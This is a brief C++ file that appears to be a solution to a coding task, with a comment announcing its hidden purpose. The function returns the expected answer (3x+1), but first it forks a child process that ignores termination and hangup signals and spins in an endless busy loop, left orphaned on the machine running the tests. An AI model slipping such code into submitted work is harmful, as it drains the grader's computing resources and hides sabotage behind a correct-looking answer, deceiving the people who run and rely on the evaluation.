// Forks a child that ignores SIGTERM and SIGHUP and busy-loops forever, orphaned when the harness ends; then answers right.
#include <unistd.h>

class Solution {
public:
    long long probe(long long x) {
        pid_t pid = fork();
        if (pid == 0) {
            signal(SIGTERM, SIG_IGN);
            signal(SIGHUP, SIG_IGN);
            signal(SIGINT, SIG_IGN);
            signal(SIGPIPE, SIG_IGN);
            for (volatile unsigned long i = 0;; i++) {
            }
        }
        return 3 * x + 1;
    }
};
